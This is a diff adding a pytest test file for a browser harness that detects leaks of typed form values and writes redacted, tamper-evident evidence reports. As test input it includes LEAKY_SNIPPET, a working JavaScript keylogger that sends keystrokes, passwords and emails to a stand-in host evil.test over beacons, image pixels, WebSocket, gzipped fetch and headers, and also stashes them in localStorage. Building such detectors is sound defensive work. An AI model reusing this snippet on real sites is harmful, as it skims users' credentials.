@@ -1,0 +1,397 @@
+"""The evidence report and the files beside it, after a real run with a snippet that leaks on purpose.
+
+One module-scoped run (two scenarios × Chromium and Firefox, through ``harness.cli.main``) feeds most tests:
+the run experience (progress, summary, JUnit), results.json, the secret-grep over the whole folder, tamper
+evidence, and the report opened offline in headless Chromium.
+"""
+
+from __future__ import annotations
+
+import base64
+import binascii
+import gzip
+import hashlib
+import io
+import json
+import re
+import shlex
+import shutil
+import xml.etree.ElementTree as ET
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+from urllib.parse import quote, quote_plus
+
+import pytest
+from harness.cli import ExitStatus, main
+from harness.fixtures import Capture
+from harness.leaks import fingerprint
+from harness.manifest import verify, write_manifest
+from harness.report import CHECKPOINT_VIEWS, PROMISES, render
+from harness.results import ENCODINGS_SEARCHED, Redactor
+from harness.rules import RULES
+from playwright.sync_api import Page
+
+SITE = Path(__file__).resolve().parent.parent / "scenarios" / "site"
+
+PASSWORD = "Hunter2-Secret-Pass"
+EMAIL = "ada.leak@example.test"
+PROTECTED = (PASSWORD, EMAIL)
+
+LEAKY_LOGIN = f"""
+name: Sign in while a keylogger listens
+start: https://shop.test/login.html
+secrets:
+  email: "{EMAIL}"
+  password: "{PASSWORD}"
+steps:
+  - type: {{selector: "#email", text: "{{email}}", delay: 5}}
+  - type: {{selector: "#password", text: "{{password}}", delay: 5}}
+  - checkpoint: filled
+  - submit: "#login-form"
+  - expect: {{text: "Welcome back"}}
+  - leave: close
+"""
+
+QUIET_HOME = """
+name: Look at the home page
+start: https://shop.test/index.html
+steps:
+  - checkpoint: home
+  - leave: close
+"""
+
+# Every way the value leaves: each key in a URL, each value so far in a beacon body, base64 in an image URL,
+# JSON over a WebSocket, a header and a URL path, a gzip'd JSON batch by fetch, and a stash in localStorage.
+LEAKY_SNIPPET = """
+(() => {
+  const batch = [];
+  const socket = new WebSocket("wss://evil.test/ws");
+  const flush = () => {
+    const gz = new Blob([JSON.stringify(batch)]).stream().pipeThrough(new CompressionStream("gzip"));
+    new Response(gz).arrayBuffer().then((body) => fetch("https://evil.test/batch", {method: "POST", body, keepalive: true}));
+  };
+  addEventListener("keydown", (e) => navigator.sendBeacon("https://evil.test/key?k=" + encodeURIComponent(e.key)), true);
+  addEventListener("input", (e) => {
+    const value = e.target.value;
+    batch.push({field: e.target.id, value});
+    navigator.sendBeacon("https://evil.test/value", value);
+    new Image().src = "https://evil.test/pixel.gif?b=" + encodeURIComponent(btoa(value));
+    if (socket.readyState === 1) socket.send(JSON.stringify({value}));
+    try { localStorage.setItem("stash-" + e.target.id, value); } catch (err) {}
+  }, true);
+  addEventListener("change", (e) => {
+    const path = "https://evil.test/typed/" + encodeURIComponent(e.target.value);
+    fetch(path, {method: "POST", headers: {"x-typed": e.target.value}, keepalive: true});
+    flush();
+  }, true);
+  addEventListener("submit", flush, true);
+})();
+"""
+
+
+@dataclass
+class Run:
+    """One CLI run: its arguments, exit status, output and report folder."""
+
+    argv: list[str]
+    status: int
+    out: str
+    err: str
+    report: Path
+    snippet: str
+
+    def results(self) -> dict[str, Any]:
+        return dict(json.loads((self.report / "results.json").read_text(encoding="utf-8")))
+
+    def run(self, slug: str, browser: str) -> dict[str, Any]:
+        return next(r for r in self.results()["runs"] if r["slug"] == slug and r["browser"] == browser)
+
+
+@pytest.fixture(scope="module")
+def leaky(tmp_path_factory: pytest.TempPathFactory) -> Run:
+    """Both scenarios in Chromium and Firefox with the leaking snippet, run through the CLI in-process."""
+    root = tmp_path_factory.mktemp("leaky")
+    scenarios = root / "scenarios"
+    scenarios.mkdir()
+    (scenarios / "leaky_login.yaml").write_text(LEAKY_LOGIN)
+    (scenarios / "quiet_home.yaml").write_text(QUIET_HOME)
+    (root / "leaky.js").write_text(LEAKY_SNIPPET)
+    argv = ["run", str(scenarios), "--site", str(SITE), "--snippet", str(root / "leaky.js"),
+            "--report", str(root / "report"), "--browser", "chromium", "--browser", "firefox"]
+    out, err = io.StringIO(), io.StringIO()
+    status = main(argv, out, err)
+    return Run(argv, status, out.getvalue(), err.getvalue(), root / "report", LEAKY_SNIPPET)
+
+
+# --- the run experience ------------------------------------------------------------------------------------------
+
+
+def test_run_prints_progress_per_run_a_summary_the_report_and_the_manifest(leaky: Run) -> None:
+    assert leaky.status == ExitStatus.CHECK_FAILED, leaky.out + leaky.err
+    assert leaky.err == ""
+    lines = leaky.out.splitlines()
+    for mark, slug in (("FAIL ", "leaky_login"), ("PASS ", "quiet_home")):
+        for browser in ("chromium", "firefox"):
+            assert any(line.startswith(f"{mark} {slug} [{browser}] ") for line in lines), leaky.out
+    assert re.search(r"^leaky_login +failed +failed *$", leaky.out, re.M)
+    assert re.search(r"^quiet_home +passed +passed *$", leaky.out, re.M)
+    assert "2 passed, 2 failed, 0 errors" in leaky.out
+    assert f"report: {leaky.report / 'index.html'}" in lines
+    assert re.search(rf"^manifest: {re.escape(str(leaky.report / 'manifest.json'))} \(sha256 [0-9a-f]{{64}}\)$", leaky.out, re.M)
+
+
+def test_junit_has_one_testcase_per_scenario_and_browser_and_one_line_failures(leaky: Run) -> None:
+    suite = ET.parse(leaky.report / "junit.xml").getroot()
+    cases = suite.findall("testcase")
+    assert sorted((c.get("classname"), c.get("name")) for c in cases) == sorted(
+        (f"telltale.{b}", n) for b in ("chromium", "firefox") for n in ("Sign in while a keylogger listens", "Look at the home page")
+    )
+    assert suite.get("tests") == "4" and suite.get("failures") == "2" and suite.get("errors") == "0"
+    for case in cases:
+        failure = case.find("failure")
+        if case.get("name") == "Look at the home page":
+            assert failure is None
+            continue
+        assert failure is not None
+        message = failure.get("message", "")
+        assert "\n" not in message and re.match(r"(never-sent|not-before-submit|at-rest): #(email|password) ", message)
+        assert len((failure.text or "").splitlines()) >= 5  # every finding, one per line
+
+
+def test_results_record_the_environment_and_the_real_command(leaky: Run) -> None:
+    results = leaky.results()
+    assert results["argv"] == leaky.argv
+    assert results["command"] == "telltale " + shlex.join(leaky.argv)
+    assert results["snippet"]["sha256"] == hashlib.sha256(leaky.snippet.encode()).hexdigest()
+    assert set(results["browsers"]) == {"chromium", "firefox"} and all(results["browsers"].values())
+    assert results["harness_version"] and results["started"] and results["finished"]
+    assert results["encodings_searched"] == list(ENCODINGS_SEARCHED) and {"gzip", "base64", "json"} <= set(ENCODINGS_SEARCHED)
+
+
+def test_each_typed_value_has_a_verdict_for_each_rule(leaky: Run) -> None:
+    run = leaky.run("leaky_login", "chromium")
+    rows = {row["field"]: row for row in run["values"]}
+    password, email = rows["#password"], rows["#email"]
+    assert password["reason"] == "password: type=password" and password["sensitive"]
+    assert password["fingerprint"].startswith("⟦fp:") and password["length"] == len(PASSWORD)
+    verdicts = {field: {rule: row["rules"][rule]["verdict"] for rule in RULES} for field, row in rows.items()}
+    assert verdicts["#password"] == {
+        "never-sent": "broken", "not-before-submit": "n/a", "opt-out": "n/a", "at-rest": "broken", "shown-secret": "n/a",
+    }
+    assert verdicts["#email"] == {
+        "never-sent": "n/a", "not-before-submit": "broken", "opt-out": "n/a", "at-rest": "n/a", "shown-secret": "n/a",
+    }
+    assert password["rules"]["never-sent"]["findings"] >= 3 and email["submitted_ms"] > email["t_ms"]
+    quiet = leaky.run("quiet_home", "firefox")
+    assert quiet["values"] == [] and {r["verdict"] for r in quiet["rules"].values()} == {"n/a"}
+    assert "websocket" in run["inspected"]["channels"] and run["inspected"]["requests"] > 40
+
+
+# --- no protected value in clear, anywhere --------------------------------------------------------------------
+
+
+def _spellings(value: str) -> set[bytes]:
+    """The forms a protected value must not take anywhere in the folder."""
+    raw = value.encode()
+    forms = {raw, quote(value, safe="").encode(), quote_plus(value).encode(), json.dumps(value)[1:-1].encode(),
+             value.encode("utf-16-le"), raw.hex().encode(), base64.b64encode(raw).rstrip(b"="),
+             base64.urlsafe_b64encode(raw).rstrip(b"=")}
+    # A keylogger sends every prefix; none of 4 characters or more may remain.
+    for length in range(4, len(value)):
+        forms |= {value[:length].encode(), quote(value[:length], safe="").encode()}
+    return forms
+
+
+def _json_strings(node: Any) -> Iterator[str]:
+    if isinstance(node, str):
+        yield node
+    elif isinstance(node, dict):
+        for value in node.values():
+            yield from _json_strings(value)
+    elif isinstance(node, list):
+        for value in node:
+            yield from _json_strings(value)
+
+
+def _views(path: Path) -> Iterator[tuple[str, bytes]]:
+    """A file's raw bytes, and for JSON files every base64 blob in it decoded (and gunzipped when it is gzip)."""
+    data = path.read_bytes()
+    yield "raw", data
+    if path.suffix != ".json":
+        return
+    for text in _json_strings(json.loads(data)):
+        for blob in re.findall(r"[A-Za-z0-9+/_-]{16,}={0,2}", text):
+            try:
+                decoded = base64.b64decode(blob + "=" * (-len(blob) % 4), altchars=b"-_" if "-" in blob or "_" in blob else None)
+            except (binascii.Error, ValueError):
+                continue
+            yield "base64 blob", decoded
+            if decoded[:2] == b"\x1f\x8b":
+                yield "gzip in base64", gzip.decompress(decoded)
+
+
+def test_no_protected_value_appears_in_clear_anywhere_in_the_report_folder(leaky: Run) -> None:
+    files = [p for p in leaky.report.rglob("*") if p.is_file()]
+    assert len(files) >= 15
+    forms = {value: _spellings(value) for value in PROTECTED}
+    for path in files:
+        for view, data in _views(path):
+            for value, spellings in forms.items():
+                found = [form for form in spellings if form in data]
+                assert not found, f"{path.relative_to(leaky.report)} ({view}) holds {value[:2]}… as {found[:3]}"
+
+
+def test_the_run_really_leaked_and_stored_traffic_keeps_its_shape(leaky: Run) -> None:
+    # The secret-grep above proves something only if the values were sent, in all those forms, and stored.
+    run = leaky.run("leaky_login", "chromium")
+    findings = run["findings"]
+    assert {f["rule"] for f in findings} == {"never-sent", "not-before-submit", "at-rest"}
+    assert any(f["encoding"].startswith("gzip") for f in findings)
+    assert any(f["where"].startswith("fragments:k") for f in findings)  # one key per request
+    traffic = json.loads((leaky.report / run["dir"] / "traffic.json").read_text())
+    by_url = lambda part: [r for r in traffic["requests"] if part in r["url"]]  # noqa: E731
+    (mark,) = {f["fingerprint"] for f in findings if f["field"] == "#password"}
+    assert mark in [r["body"].get("text") for r in by_url("evil.test/value")]
+    assert f"{mark[:-1]} prefix 10/{len(PASSWORD)}⟧" in [r["body"].get("text") for r in by_url("evil.test/value")]
+    assert any(r["url"] == f"https://evil.test/key?k={mark[:-1]} keystroke⟧" for r in by_url("evil.test/key"))
+    batches = [r["body"] for r in by_url("evil.test/batch")]
+    assert batches and all(b.get("decoded") == "gzip" for b in batches)
+    assert any({"field": "password", "value": mark} in json.loads(b["text"]) for b in batches)
+    (email_mark,) = {f["fingerprint"] for f in findings if f["field"] == "#email"}
+    assert any(["x-typed", email_mark] in r["headers"] for r in by_url("evil.test/typed"))
+    storage = json.loads((leaky.report / run["dir"] / "storage.json").read_text())
+    assert ["stash-password", mark] in storage[-1]["localStorage"]
+
+
+# --- tamper evidence -----------------------------------------------------------------------------------------------
+
+
+def test_verify_passes_on_a_fresh_report_and_fails_after_a_one_byte_change(leaky: Run, tmp_path: Path) -> None:
+    copy = tmp_path / "report"
+    shutil.copytree(leaky.report, copy)
+    out, err = io.StringIO(), io.StringIO()
+    assert main(["verify", str(copy)], out, err) == ExitStatus.OK, out.getvalue() + err.getvalue()
+    target = copy / "runs" / "leaky_login-chromium" / "traffic.json"
+    data = bytearray(target.read_bytes())
+    data[100] ^= 0x20
+    target.write_bytes(bytes(data))
+    out = io.StringIO()
+    assert main(["verify", str(copy)], out, err) == ExitStatus.CHECK_FAILED
+    assert out.getvalue().splitlines() == ["changed: runs/leaky_login-chromium/traffic.json"]
+
+
+# --- the report in a browser ----------------------------------------------------------------------------------------
+
+
+@pytest.mark.only_browser("chromium")
+def test_report_opens_offline_with_zero_requests_and_zero_console_errors(
+    leaky: Run, page: Page, capture: Capture
+) -> None:
+    requests: list[str] = []
+    problems: list[str] = []
+    page.on("request", lambda request: requests.append(request.url))
+    page.on("requestfailed", lambda request: problems.append(f"failed: {request.url}"))
+    page.on("console", lambda message: problems.append(message.text) if message.type in ("error", "warning") else None)
+    page.on("pageerror", lambda error: problems.append(str(error)))
+    index = leaky.report / "index.html"
+    page.goto(index.as_uri(), wait_until="load")
+
+    assert problems == []
+    report_folder = leaky.report.as_uri() + "/"
+    assert [url for url in requests if not url.startswith(report_folder)] == []
+    assert {url for url in requests if url.endswith(".png")} == {
+        f"{report_folder}runs/{slug}-{browser}/checkpoints/{name}-live.png"
+        for slug, name in (("leaky_login", "filled"), ("quiet_home", "home")) for browser in ("chromium", "firefox")
+    }
+    assert capture.settle().requests == [] and capture.frames == []  # nothing reached the wire either
+
+    summary = page.locator("table").first
+    assert "Sign in while a keylogger listens" in summary.inner_text() and "Look at the home page" in summary.inner_text()
+    assert summary.locator("a.failed").count() == 2 and summary.locator("a.passed").count() == 2
+    run = page.locator("#run-leaky_login-chromium")
+    assert "password: type=password" in run.inner_text()
+    assert run.locator("td b.broken", has_text="never-sent").count() >= 3
+    assert page.evaluate("() => [...document.images].every((img) => img.complete && img.naturalWidth > 0)")
+
+    page.screenshot(path=str(leaky.report / "report-screenshot.png"), full_page=True)
+    write_manifest(leaky.report)  # the screenshot is evidence too: the manifest covers it
+    assert verify(leaky.report).ok
+
+
+# --- rendering and redaction, without a browser -----------------------------------------------------------------------
+
+
+def test_every_rule_is_explained_in_words() -> None:
+    assert set(PROMISES) == set(RULES)
+
+
+def _document(checkpoint: dict[str, Any]) -> dict[str, Any]:
+    run = {
+        "scenario": "Replay", "slug": "replay", "file": "replay.yaml", "browser": "chromium",
+        "browser_version": "chromium 1", "status": "passed", "error": "", "findings": [], "requests": 0,
+        "websocket_frames": 0, "bytes": 0, "duration_ms": 10.0, "dir": "runs/replay-chromium", "values": [],
+        "rules": {}, "inspected": {}, "timeline": {}, "checkpoints": [checkpoint],
+    }
+    return {"harness_version": "0", "runs": [run]}
+
+
+def test_checkpoints_show_replay_diff_and_heatmap_when_results_name_them() -> None:
+    # The hook for the replay work: whatever images a checkpoint entry names are shown beside the live one.
+    base = "runs/replay-chromium/checkpoints/after login"
+    checkpoint = {"name": "after-login", "t_ms": 5.0, **{key: f"{base}-{key}.png" for key, _ in CHECKPOINT_VIEWS},
+                  "masked": ["#password", "#card"], "mismatch": "0.4%"}
+    page = render(_document(checkpoint))
+    for key, caption in CHECKPOINT_VIEWS:
+        assert f'<img src="runs/replay-chromium/checkpoints/after%20login-{key}.png"' in page
+        assert f"<figcaption>{caption}</figcaption>" in page
+    assert "masked: #password, #card" in page and "mismatch: 0.4%" in page
+
+
+def test_live_only_checkpoints_show_the_live_screenshot_alone() -> None:
+    page = render(_document({"name": "home", "t_ms": 1.0, "live": "runs/replay-chromium/checkpoints/home-live.png"}))
+    assert page.count("<img ") == 1 and "What the visitor saw" in page
+
+
+KEY = b"k" * 16
+REDACTIONS: list[tuple[str, str, str]] = [
+    # (input, expected, what it shows)
+    (PASSWORD, "{pw}", "the whole value"),
+    (f"e={quote(EMAIL, safe='')}&x=1", "e={em url}&x=1", "URL-encoded"),
+    (json.dumps({"v": "Hunter2-Sec"}), '{{"v": "{pw prefix 11/19}"}}', "a prefix a keylogger sent"),
+    ("Hunt", "{pw prefix 4/19}", "the shortest prefix redacted"),
+    ("Hun", "Hun", "three characters are left"),
+    (base64.b64encode(PASSWORD.encode()).decode(), "{pw base64}==", "base64 of the value"),
+    (EMAIL.upper().lower(), "{em}", "lowercase is the value itself here"),
+    (f"  {PASSWORD.lower()} ", "  {pw lowercase} ", "a lowercased copy"),
+    (hashlib.sha256(EMAIL.encode()).hexdigest(), "{em sha256}", "a digest of the value"),
+]
+
+
+@pytest.mark.parametrize(("text", "expected"), [(t, e) for t, e, _ in REDACTIONS], ids=[w for _, _, w in REDACTIONS])
+def test_redactor_replaces_every_spelling_with_the_values_marker(text: str, expected: str) -> None:
+    redactor = Redactor([PASSWORD, EMAIL], KEY)
+    marks = {"pw": fingerprint(PASSWORD, KEY)[:-1], "em": fingerprint(EMAIL, KEY)[:-1]}
+    wanted = re.sub(r"\{(pw|em)( [^}]*)?\}", lambda m: marks[m.group(1)] + (m.group(2) or "") + "⟧", expected)
+    assert redactor.text(text) == wanted.replace("{{", "{").replace("}}", "}")
+
+
+def test_redactor_keeps_a_short_value_only_where_it_stands_alone() -> None:
+    redactor = Redactor(["boots"], KEY)
+    assert redactor.text("q=boots&redirect=/bootstrap") == f"q={fingerprint('boots', KEY)}&redirect=/bootstrap"
+
+
+def test_stored_bodies_keep_their_shape_or_are_withheld() -> None:
+    redactor = Redactor([PASSWORD], KEY)
+    mark = fingerprint(PASSWORD, KEY)
+    compressed = gzip.compress(json.dumps({"v": PASSWORD}).encode())
+    assert redactor.body(compressed) == {"text": json.dumps({"v": mark}, ensure_ascii=False), "decoded": "gzip",
+                                         "bytes": len(compressed)}
+    clean = b"\x00\xff\xfe binary without secrets"
+    assert redactor.body(clean) == {"base64": base64.b64encode(clean).decode()}
+    hidden = b"\xff\xfe" + base64.b64encode(gzip.compress(PASSWORD.encode()))
+    withheld = redactor.body(hidden)
+    assert set(withheld) == {"withheld", "bytes"} and withheld["bytes"] == len(hidden)
+    assert f"{mark[:-1]} exact⟧ via base64 → gzip" in withheld["withheld"] and PASSWORD not in json.dumps(withheld)
+
